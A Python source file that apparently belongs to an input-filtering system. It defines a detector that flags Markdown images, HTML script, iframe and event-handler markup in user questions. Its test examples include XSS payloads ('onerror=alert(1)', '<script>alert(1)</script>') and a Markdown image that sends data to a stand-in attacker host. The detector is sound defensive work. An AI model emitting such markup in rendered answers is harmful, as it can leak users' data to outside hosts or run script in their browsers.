"""markup: pictures, scripts and frames that a page would load."""

from __future__ import annotations

from collections.abc import Iterator

from grammar.diagnostic import quote
from guard.scope.detector import Signal, Stage, View, Weight, any_of, detector

_ACTIVE = any_of(
    r"!\[[^\]]{0,200}\]\(",
    r"<(?:img|script|iframe|svg|object|embed|link|style|meta|form|video|audio)\b[^>]{0,200}>?",
    r"javascript:",
    r"\bon(?:error|load|click|mouseover) ?=",
)
_LINK = any_of(
    r"\[[^\]]{1,200}\]\( ?[a-z]{2,10}:",
    r"<(?:a|b|i|p|div|span|h[1-6]|br|ul|li|table)\b[^>]{0,200}>",
)


@detector(
    Weight.DECISIVE,
    stage=Stage.TEXT,
    out_of_scope=[
        "errors ![x](https://evil.example/?d=1)",
        "<img src=x onerror=alert(1)>",
        "count <script>alert(1)</script>",
    ],
    in_scope=[
        'user agents containing "<script>"',
        "/api/<string:id>/items",
        "errors for [checkout]",
        "duration < 5 and count > 3",
    ],
)
def markup(view: View) -> Iterator[Signal]:
    """The question contains an image, script or frame in Markdown or HTML.

    In an answer that is shown on a page, it loads an address of the attacker's choice and can carry data along.
    A plain link is only flagged, and a quoted filter value is let through.
    """
    match = view.find(_ACTIVE)
    if match is not None:
        yield Signal(f"the question contains markup: {quote(match.group())}", match.span())
        return
    match = view.find(_LINK)
    if match is not None:
        yield Signal(f"the question contains markup: {quote(match.group())}", match.span(), Weight.NOTED)
